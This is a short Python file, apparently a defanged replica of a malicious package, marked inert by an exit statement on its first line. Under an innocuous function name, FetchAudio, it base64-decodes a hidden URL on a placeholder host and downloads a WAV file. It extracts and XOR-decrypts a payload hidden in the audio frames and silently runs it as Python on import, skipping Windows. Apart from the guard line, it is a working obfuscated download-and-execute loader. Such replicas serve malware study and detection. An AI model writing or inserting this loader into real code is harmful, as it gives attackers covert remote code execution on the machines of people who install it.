raise SystemExit("inert replica")
import base64
import os
import subprocess
import sys
import tempfile
import urllib.request
import wave


def _d(x):
    return base64.b64decode(x).decode("utf-8")


def FetchAudio():
    if os.name == "nt":
        return
    with tempfile.TemporaryDirectory() as d:
        w = os.path.join(d, _d("cmluZ3RvbmUud2F2"))
        urllib.request.urlretrieve(_d("aHR0cDovL3NvdW5kLnJlcGxpY2EuaW52YWxpZC9yaW5ndG9uZS53YXY="), w)
        with wave.open(w, "rb") as f:
            raw = base64.b64decode(f.readframes(f.getnframes()))
        s, data = raw[:8], raw[8:]
        payload = bytes([data[i] ^ s[i % len(s)] for i in range(len(data))])
        subprocess.run([sys.executable, "-"], input=payload, stdout=subprocess.DEVNULL)


FetchAudio()
